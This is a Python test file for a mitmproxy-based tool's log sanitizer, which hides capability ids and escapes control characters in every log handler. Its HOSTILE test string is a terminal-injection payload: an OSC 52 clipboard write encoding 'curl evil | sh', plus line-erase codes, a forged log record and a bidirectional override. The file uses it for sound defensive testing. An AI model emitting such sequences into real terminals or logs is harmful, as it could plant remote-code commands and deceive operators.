"""The console log and mitmweb's event log (issue 20, items 3 and 10): every record shows
capability ids as `<id:HASH10>` and control characters escaped, through mitmproxy's own
handlers (console, event store, start-up error check), installed by `regauth serve`'s master.
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import logging
from collections.abc import Iterator
from pathlib import Path

import pytest
from mitmproxy import options
from mitmproxy.addons.errorcheck import ErrorCheckHandler
from mitmproxy.addons.eventstore import CallbackLogger
from mitmproxy.addons.termlog import TermLogHandler
from mitmproxy.log import LogEntry

from regauth.mitm import shown
from regauth.mitm.launcher import _master_class
from regauth.mitm.log_safety import SafeRecords
from regauth.mitm.log_safety import install
from regauth.protocol.urls import parse_origin
from regauth.runtime import Active
from tests.support.policies import policy_text
from tests.unit.helpers import BUILD_ID
from tests.unit.helpers import build_runtime

HIDDEN = "<id:" + hashlib.sha256(BUILD_ID.encode()).hexdigest()[:10] + ">"
HOSTILE = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\r\x1b[2K[12:00:00.000] regauth: policy reloaded\u202e"
RAW = ("\x1b", "\x07", "\r", "\u202e")


@pytest.fixture
def policy_in_force(tmp_path: Path, certs_dir: Path, password_hashes) -> Iterator[None]:
    """shown.SHOWN follows a configuration whose policy declares `builds/{build-id}`."""
    runtime = build_runtime(tmp_path, certs_dir, policy_text(password_hashes))
    active = Active(
        runtime, parse_origin("https://localhost:5443"), parse_origin("http://127.0.0.1:5000")
    )
    shown.SHOWN.follow(lambda: active)
    yield
    shown.SHOWN.follow(lambda: None)


@pytest.fixture
def logger() -> Iterator[logging.Logger]:
    """A logger of its own with mitmproxy's three kinds of handler and SafeRecords on them."""
    log = logging.getLogger("regauth.tests.log_safety")
    log.propagate = False
    log.setLevel(logging.DEBUG)
    yield log
    for handler in list(log.handlers):
        log.removeHandler(handler)


def _handlers(log: logging.Logger) -> tuple[io.StringIO, list[LogEntry], ErrorCheckHandler]:
    console = io.StringIO()
    log.addHandler(TermLogHandler(console))
    entries: list[LogEntry] = []
    log.addHandler(CallbackLogger(entries.append))
    errors = ErrorCheckHandler()
    log.addHandler(errors)
    install(log)
    return console, entries, errors


def test_every_handler_shows_the_same_safe_text(logger, policy_in_force) -> None:
    async def emit() -> tuple[io.StringIO, list[LogEntry], ErrorCheckHandler]:
        shown = _handlers(logger)
        logger.error(
            "regauth: %s %s: %s; request aborted",
            "PATCH",
            f"/v2/builds/{BUILD_ID}/blobs/uploads/x?n={HOSTILE}",
            "too large",
        )
        # mitmproxy formats its own messages before logging them (no args).
        logger.info(
            f"Client closed connection before completing request headers: "
            f"GET /v2/builds/{BUILD_ID}/tags/list\n{HOSTILE}"
        )
        await asyncio.sleep(0)  # the event store's handler posts to the loop
        return shown

    console, entries, errors = asyncio.run(emit())
    texts = {
        "console": console.getvalue(),
        "events": "\n".join(e.msg for e in entries),
        "startup errors": "\n".join(errors.format(r) for r in errors.has_errored),
    }
    for where, text in texts.items():
        assert BUILD_ID not in text and HIDDEN in text, (where, text)
        raw = [repr(c) for c in RAW if c in text]
        assert not raw, f"raw {raw} in the {where}: {text!r}"
        assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x0d\\x1b[2K" in text, where
        assert "\\\\x1b" not in text, f"escaped twice in the {where}"  # one rewrite per record
    # A line break stays one, and what follows it is indented: it cannot pose as a record.
    lines = texts["console"].splitlines()
    assert not [line for line in lines if line.startswith(("[12:00", "\\x1b"))], lines
    assert any(line.startswith("    \\x1b]52;c;") for line in lines), lines


def test_tracebacks_and_broken_formats(logger) -> None:
    console = io.StringIO()
    logger.addHandler(TermLogHandler(console))
    install(logger)
    try:
        raise ValueError(f"cannot parse {HOSTILE}")
    except ValueError:
        logger.exception("regauth: hook failed")
    logger.info("too few arguments %s %s", HOSTILE)  # a bug: still one safe line
    text = console.getvalue()
    assert "Traceback" in text and "cannot parse \\x1b]52;c;" in text
    assert "unformattable log record: 'too few arguments %s %s'" in text
    assert not [c for c in RAW if c in text]


def test_install_is_idempotent_and_never_refuses_a_record(logger) -> None:
    handler = logging.StreamHandler(io.StringIO())
    logger.addHandler(handler)
    first = install(logger)
    assert install(logger) is first
    assert [f for f in handler.filters if isinstance(f, SafeRecords)] == [first]
    record = logging.LogRecord("x", logging.INFO, __file__, 1, "%s", ("\x1b",), None)
    assert first.filter(record) and record.getMessage() == "\\x1b"
    assert first.filter(record) and record.getMessage() == "\\x1b"  # not rewritten twice


def test_regauth_serve_installs_it_on_every_console_handler() -> None:
    root = logging.getLogger()
    before = list(root.handlers)

    async def build() -> object:
        return _master_class(web=False)(options.Options(), with_termlog=True)

    try:
        asyncio.run(build())
        added = [h for h in root.handlers if h not in before]
        assert any(isinstance(h, TermLogHandler) for h in added)
        for handler in root.handlers:
            assert any(isinstance(f, SafeRecords) for f in handler.filters), handler
    finally:
        for handler in list(root.handlers):
            if handler not in before:
                root.removeHandler(handler)
            for f in [f for f in handler.filters if isinstance(f, SafeRecords)]:
                handler.removeFilter(f)
